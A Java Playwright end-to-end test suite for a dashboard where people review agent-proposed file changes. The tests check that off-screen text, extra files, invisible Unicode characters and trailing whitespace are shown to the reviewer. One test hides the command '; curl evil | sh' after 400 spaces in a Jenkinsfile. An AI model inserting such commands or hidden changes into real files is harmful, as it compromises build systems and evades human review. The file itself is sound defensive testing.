package dev.sicd.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Who approves a proposal can look at all of it, and is told what was not on the page yet. */
@ExtendWith(DashboardSystem.Provider.class)
class DashboardReviewTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String UNSEEN = "Not shown below yet";

    private DashboardSystem system;

    @BeforeEach
    void use(DashboardSystem given) {
        this.system = given;
    }

    @Test
    void whatIsFarToTheRightOfALineIsToldOfAndOpensByKeyboard() throws Exception {
        String harmless = "x = 1;";
        String harmful = "; curl evil | sh";
        String proposal =
                propose(List.of(update("Jenkinsfile", "x = 0;\n", harmless + " ".repeat(400) + harmful + "\n")));
        try (DashboardVisit visit = system.visit()) {
            Page page = visit.open("/#/proposals/" + proposal);
            assertThat(page.locator("#review").locator("xpath=ancestor::section"))
                    .containsText(UNSEEN + ": 1 long line.");

            button(page, "22 more characters").focus();
            page.keyboard().press("Enter");

            assertThat(page.locator(".diff .added .code")).containsText(harmful);
            assertThat(button(page, "more character")).hasCount(0);
            assertThat(page.locator("main")).not().containsText(UNSEEN);
        }
    }

    @Test
    void everyFileIsReached() throws Exception {
        List<ObjectNode> changes = IntStream.range(0, 45)
                .mapToObj(number -> update("jobs/Jenkinsfile.%02d".formatted(number), "a\n", "b%d\n".formatted(number)))
                .toList();
        String proposal = propose(changes);
        try (DashboardVisit visit = system.visit()) {
            Page page = visit.open("/#/proposals/" + proposal);
            assertThat(page.locator("article.file")).hasCount(20);
            assertThat(page.locator("main")).containsText(UNSEEN + ": 25 files.");

            button(page, "Show 20 more files of 25").click();
            assertThat(page.locator("main")).containsText(UNSEEN + ": 5 files.");
            button(page, "Show 5 more files of 5").click();

            assertThat(page.locator("article.file")).hasCount(45);
            assertThat(page.locator("article.file").last()).containsText("b44");
            assertThat(page.locator("main")).not().containsText(UNSEEN);
        }
    }

    @Test
    void whatNobodyWouldSeeIsWrittenOut() throws Exception {
        int[] hidden = {
            0x034F, 0x115F, 0x1160, 0x180E, 0x200B, 0x200D, 0x2800, 0x3164, 0xFE00, 0xFE0F, 0xFFA0, 0xE0041, 0xE0101
        };
        StringBuilder line = new StringBuilder();
        for (int character : hidden) {
            line.append('a').appendCodePoint(character).append('b');
        }
        String proposal = propose(
                List.of(update("Jenkinsfile", "old\n", line + "\n"), update("ci/Jenkinsfile", "same\n", "same")));
        try (DashboardVisit visit = system.visit()) {
            Page page = visit.open("/#/proposals/" + proposal);

            Locator files = page.locator("article.file");
            for (int character : hidden) {
                assertThat(files.first().locator(".added")).containsText("a⟨U+%04X⟩b".formatted(character));
            }
            // a last line without its newline is another line
            assertThat(files.last().locator(".tally")).hasText("+1 −1");
            assertThat(files.last().locator(".added")).containsText("No newline at end of file");
            assertThat(files.last().locator(".removed")).not().containsText("No newline");
        }
    }

    @Test
    void blanksAtTheEndOfAChangedLineAreMarked() throws Exception {
        String proposal = propose(List.of(update("Jenkinsfile", "kept  \nport=1  \n", "kept  \nport=1\t\n")));
        try (DashboardVisit visit = system.visit()) {
            Locator file = visit.open("/#/proposals/" + proposal).locator("article.file");

            assertThat(file.locator(".removed .code")).hasText("port=1··");
            assertThat(file.locator(".added .code")).hasText("port=1→");
            assertThat(file.locator(".same .code")).hasText("kept");
        }
    }

    @Test
    void joinersStayWhereScriptsAndPicturesNeedThem() {
        String family =
                "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \u2764\uFE0F \u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645";
        try (DashboardVisit visit = system.visit()) {
            Object shown =
                    visit.open("/").evaluate("async text => (await import('/ui/lib/text.js')).visible(text)", family);

            assertThat(shown).isEqualTo(family);
        }
    }

    private String propose(List<ObjectNode> changes) throws Exception {
        try (Api agent = system.agent()) {
            return new DashboardData(agent, agent)
                    .propose(DashboardData.OPEN, "Look closely", "Nothing to see here", changes);
        }
    }

    private static ObjectNode update(String path, String before, String after) {
        return MAPPER.createObjectNode()
                .put("file_path", path)
                .put("change_type", "update")
                .put("original_content", before)
                .put("new_content", after)
                .put("rationale", "tidier");
    }

    private static Locator button(Page page, String name) {
        return page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(name));
    }
}
